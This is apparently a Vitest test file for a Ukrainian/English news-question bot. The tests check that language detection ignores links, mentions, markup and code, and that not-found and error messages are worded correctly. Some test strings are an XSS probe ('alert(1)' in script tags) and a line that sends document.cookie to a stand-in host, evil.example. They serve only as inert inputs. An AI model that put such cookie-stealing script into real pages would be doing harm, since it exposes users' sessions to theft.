import { describe, expect, it } from "vitest";
import { answerText, notFoundText, questionProblemText } from "../../src/texts/answer-texts.js";
import { pickLang } from "../../src/texts/lang.js";

describe("pickLang", () => {
  it("follows the script of the user's words when it is clear", () => {
    expect(pickLang({ text: "Хто такий Серджіо Гор?", languageCode: "en" })).toBe("uk");
    expect(pickLang({ text: "Who is Sergio Gor?", languageCode: "uk" })).toBe("en");
    expect(pickLang({ text: "Кто такой Серджио Гор?" })).toBe("uk");
  });

  it("does not count the letters of links, e-mail addresses, @mentions and /commands", () => {
    expect(pickLang({ text: "що пишуть про https://example.org/metro ?", languageCode: "en" })).toBe("uk");
    expect(pickLang({ text: "що пишуть про example.org/metro-line-extension", languageCode: "en" })).toBe("uk");
    expect(pickLang({ text: "що на www.example.com?", languageCode: "en" })).toBe("uk");
    expect(pickLang({ text: "@news_article_bot що з метро?", languageCode: "en" })).toBe("uk");
    expect(pickLang({ text: "/ask@news_article_bot що з метро?", languageCode: "en" })).toBe("uk");
    expect(pickLang({ text: "чи відповідає newsroom@example.org?", languageCode: "en" })).toBe("uk");
    expect(pickLang({ text: "what does https://приклад.укр/метро say?", languageCode: "uk" })).toBe("en");
    // Nothing but a link: the client's language decides.
    expect(pickLang({ text: "https://example.org/metro", languageCode: "uk" })).toBe("uk");
    expect(pickLang({ text: "https://example.org/metro" }, "en")).toBe("en");
    // Latin-script names and "and/or" are the user's own words.
    expect(pickLang({ text: "Who is Sergio Gor and/or his deputy?", languageCode: "uk" })).toBe("en");
  });

  it("does not count the letters of HTML-like tags, entities and code: «Хто такий <script>alert(1)</script> & Кличко?» is Ukrainian", () => {
    expect(pickLang({ text: "Хто такий <script>alert(1)</script> & Кличко?", languageCode: "uk" })).toBe("uk");
    expect(pickLang({ text: "Хто такий <script>alert(1)</script> & Кличко?" }, "en")).toBe("uk");
    expect(pickLang({ text: "Що означає <b>НАТО</b> &amp; <i>ЄС</i>?", languageCode: "en" })).toBe("uk");
    expect(pickLang({ text: "Що робить `console.log(document.cookie)` у статті?", languageCode: "en" })).toBe("uk");
    expect(pickLang({ text: "Що робить ```\nfetch('https://evil.example/steal?c=' + document.cookie)\n``` тут?", languageCode: "en" })).toBe("uk");
    expect(pickLang({ text: "What does <!-- коментар --> <div class='новина'>mean</div>?", languageCode: "uk" })).toBe("en");
    // "2 < 3 and 5 > 4" holds no tag.
    expect(pickLang({ text: "Is 2 < 3 and 5 > 4?", languageCode: "uk" })).toBe("en");
  });

  it("reads Latin names and brands in a Ukrainian question as names, not as English words", () => {
    expect(pickLang({ text: "Що сказав Donald Trump про NATO?", languageCode: "en" })).toBe("uk");
    expect(pickLang({ text: "Що відомо про Starlink?", languageCode: "en" })).toBe("uk");
    expect(pickLang({ text: "Коли вийде iPhone?", languageCode: "en" })).toBe("uk");
    expect(pickLang({ text: "Donald Trump хто?", languageCode: "en" })).toBe("uk");
    expect(pickLang({ text: "Sergio Gor хто це?", languageCode: "en" })).toBe("uk");
    expect(pickLang({ text: "What did Зеленський say?", languageCode: "uk" })).toBe("en");
    expect(pickLang({ text: "Trump said what about Зеленський?", languageCode: "uk" })).toBe("en");
  });

  it("reads an English question in Title Case as English: its first word is no name when no Cyrillic word follows", () => {
    expect(pickLang({ text: "What Happened In Kyiv?", languageCode: "uk" })).toBe("en");
    expect(pickLang({ text: "Who Is Sergio Gor?" })).toBe("en");
    expect(pickLang({ text: "Donald Trump хто?", languageCode: "en" })).toBe("uk");
  });

  it("lets the client's language decide when the question's words are mixed", () => {
    expect(pickLang({ text: "Що означає deep state?", languageCode: "uk" })).toBe("uk");
    expect(pickLang({ text: "Що означає deep state?", languageCode: "en" })).toBe("en");
    // Without one, the script with more words.
    expect(pickLang({ text: "Що означає deep state у статті?" })).toBe("uk");
    expect(pickLang({ text: "Чи deep state is real?" })).toBe("en");
  });

  it("falls back to the client's language, then to the given default", () => {
    expect(pickLang({ text: "42?", languageCode: "en-GB" })).toBe("en");
    expect(pickLang({ text: "", languageCode: "de" })).toBe("uk");
    expect(pickLang({ languageCode: "EN" })).toBe("en");
    expect(pickLang({})).toBe("uk");
    expect(pickLang({ text: "?!" }, "en")).toBe("en");
  });
});

describe("answer texts", () => {
  it("word a not-found answer in the question's language, with the closest titles", () => {
    expect(notFoundText("uk", [])).toBe("У статтях немає відповіді на це питання.");
    expect(notFoundText("uk", ["A"])).toBe("У статтях немає відповіді на це питання. Найближча стаття:\n- A");
    expect(notFoundText("en", ["A"])).toBe("The articles do not cover this question. Closest article:\n- A");
    expect(answerText({ notFound: true, question: "What is it?", closestTitles: ["A", "B"], answer: "" })).toBe(
      "The articles do not cover this question. Closest articles:\n- A\n- B",
    );
    expect(answerText({ notFound: false, question: "Що це?", closestTitles: [], answer: "Це [1]." })).toBe("Це [1].");
    expect(answerText({ notFound: true, question: "що пишуть про https://example.org/metro ?", closestTitles: [], answer: "" })).toBe(
      "У статтях немає відповіді на це питання.",
    );
  });

  it("name the question length limit", () => {
    expect(questionProblemText("en", "too-long")).toMatch(/over 1000 characters/);
    expect(questionProblemText("uk", "empty")).toMatch(/порожнє/);
    expect(questionProblemText("uk", "link-only")).toBe("Напишіть питання словами: посилання я не відкриваю.");
    expect(questionProblemText("en", "link-only")).toBe("Write the question in words: I don't open links.");
  });
});
